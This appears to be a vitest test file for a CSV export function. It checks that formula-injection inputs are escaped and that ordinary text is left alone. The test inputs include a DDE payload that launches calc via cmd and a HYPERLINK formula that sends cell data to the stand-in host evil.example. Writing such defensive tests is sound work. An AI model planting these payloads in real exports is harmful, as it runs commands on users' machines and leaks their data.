import { text as readText } from 'node:stream/consumers';
import { expect, it } from 'vitest';
import { createExportResponse } from './export.ts';

const formatCsvLinesOf = async (...cells: (string | number)[]) => {
  const { body } = createExportResponse(
    'csv',
    'x',
    ['id', 'text'],
    cells.map((text) => ({ id: 'conv_1', text })),
  );
  return (await readText(body as NodeJS.ReadableStream)).split('\r\n').slice(1, -1);
};

/** How spreadsheets split a line in countries with a decimal comma, where quotes inside a cell have no meaning. */
const splitLikeSemicolonSpreadsheet = (line: string) => line.split(/[;\t\r\n]/);

const COMMAND = "cmd|' /C calc'!A0";

it.each([
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map((sign) => sign + COMMAND),
  ...['\t=', '\r=', '\n=', '\n\t=', 'a;=', 'a;b;+', 'a\t-', 'a\n@', 'a;\n=', ';='].map((start) => start + COMMAND),
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `a,=${COMMAND}`,
  `";=${COMMAND};"`,
])('escapes a formula in %j', async (text) => {
  const [line = ''] = await formatCsvLinesOf(text);
  const [, cell = ''] = /^conv_1,(.*)$/s.exec(line) ?? [];
  const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  expect(unquoted).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
  for (const part of splitLikeSemicolonSpreadsheet(line)) expect(part).not.toMatch(/^[=+\-@＝＋－＠]/);
});

it('leaves other text unchanged', async () => {
  for (const text of ['Hello', 'a = b', '3-4 people', 'me@example.com', 'Öl & Brot', '5', ''])
    expect(await formatCsvLinesOf(text)).toEqual([`conv_1,${text}`]);
  expect(await formatCsvLinesOf(-5)).toEqual(['conv_1,-5']);
  expect(await formatCsvLinesOf('say "hi", please')).toEqual(['conv_1,"say ""hi"", please"']);
});
